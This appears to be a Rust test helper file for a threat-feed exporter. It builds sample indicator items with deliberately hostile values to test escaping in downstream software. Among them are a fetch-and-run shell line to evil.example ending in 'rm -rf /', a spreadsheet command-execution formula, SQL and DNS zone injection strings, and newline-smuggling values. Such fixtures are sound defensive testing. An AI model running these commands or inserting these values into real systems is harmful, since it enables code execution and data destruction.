//! Values of a feed, hostile ones among them, and other software that reads what is made of them.

#![allow(
    dead_code,
    clippy::unwrap_used,
    reason = "each test uses some of it; clippy sees helpers of a test as no test"
)]

use std::process::{Command, Output};

use cybexp_share::{FeedHead, Item, Tlp};
use tahoe_core::Scalar;
use test_needs::Need;

pub(crate) fn head() -> FeedHead {
    FeedHead {
        name: "attackers".to_owned(),
        description: "Addresses that attacked; \"us\"\n# and others".to_owned(),
        organisation: "Example Org".to_owned(),
        seq: 4_294_967_299,
        created: 1_764_000_000.0,
        changed: 1_764_236_700.5,
        tlp: Tlp::AmberStrict,
        comments: true,
    }
}

pub(crate) fn item(sub_type: &str, data: impl Into<Scalar>) -> Item {
    Item {
        sub_type: sub_type.to_owned(),
        data: data.into(),
        added: 1_764_100_000.0,
        changed: 1_764_200_000.0,
        seen: Some((1_764_000_000.0, 1_764_200_000.25)),
        count: 7,
        reason: "ssh, \"malicious\"; it's\r\nnot )a (rule:| $HOME `id` \u{202e}".to_owned(),
        tlp: Tlp::Green,
    }
}

/// Values as attackers write them.
pub(crate) fn items() -> Vec<Item> {
    let texts = [
        ("ipv4", "203.0.113.9"),
        ("ipv4", "198.51.100.7"),
        ("ipv4", "203.0.113.9\n0.0.0.0/0"),
        ("ipv6", "2001:db8::9"),
        ("ipv6", "2001:db8:1:2:3:4:5:6"),
        ("cidr", "198.51.100.77/24"),
        ("cidr", "2001:db8:ffff::/48"),
        ("hostname", "Evil.Example"),
        ("hostname", "bücher.example"),
        ("hostname", "evil.example\n0.0.0.0 bank.example"),
        ("hostname", "evil.example CNAME . ; $INCLUDE /etc/passwd"),
        ("hostname", "_dmarc.evil.example"),
        ("domain", "evil.example"),
        ("domain", "*.example"),
        ("url", "http://evil.example/a;b='c'\\\"|d?e=f#g"),
        ("url", "http://evil.example/path/of/payload.sh?a=1,2"),
        ("url", "http://bücher.example/ü\r\nX: y"),
        ("url", "evil.example"),
        ("email_addr", "jdoe@evil.example"),
        ("email_addr", "\"a\\\" b\"@evil.example"),
        ("md5", "D41D8CD98F00B204E9800998ECF8427E"),
        ("sha1", "da39a3ee5e6b4b0d3255bfef95601890afd80709"),
        (
            "sha256",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        ),
        ("sha256", "no digest"),
        ("filename", "=cmd|' /C calc'!A0"),
        ("filename", "a\"b\\c'd\u{2028}e.sh"),
        ("username", "'; DROP TABLE users; -- \u{0}"),
        ("password", "-1+1"),
        ("password", "'quoted"),
        ("password", " \ttabs\t "),
        (
            "shell_command",
            "wget http://evil.example/x.sh -O- | sh; # \"done\"\nrm -rf /",
        ),
        ("hassh", "92674389fa1e47a27ddd8d9b63ecd42b"),
        ("mac_address", "00-53-00-AA-bb-01"),
        ("asn", "AS64500"),
        ("comment", "#not a comment"),
        ("comment", "@sum(1)"),
        ("comment", ""),
    ];
    let mut items: Vec<Item> = texts.map(|(sub_type, text)| item(sub_type, text)).into();
    items.push(item("asn", 64_501_i64));
    items.push(item("success", true));
    items
}

/// Runs a Python program if its imports are there.
pub(crate) fn python(imports: &str, program: &str, args: &[&str]) -> Option<Output> {
    let found = Command::new("python3").args(["-c", imports]).output();
    if !found.is_ok_and(|out| out.status.success()) {
        Need::Python.is_lacking(format_args!("python3 cannot run `{imports}`"));
        return None;
    }
    let out = Command::new("python3")
        .args(["-c", program])
        .args(args)
        .output();
    Some(out.unwrap())
}

/// Runs a program of what the test needs, if it is there.
pub(crate) fn run(need: Need, program: &str, args: &[&str]) -> Option<Output> {
    match Command::new(program).args(args).output() {
        Ok(out) => Some(out),
        Err(_) => {
            need.is_lacking(format_args!("there is no program {program}"));
            None
        }
    }
}

#[track_caller]
pub(crate) fn good(out: &Output) -> String {
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    assert!(
        out.status.success(),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    text(&out.stdout)
}
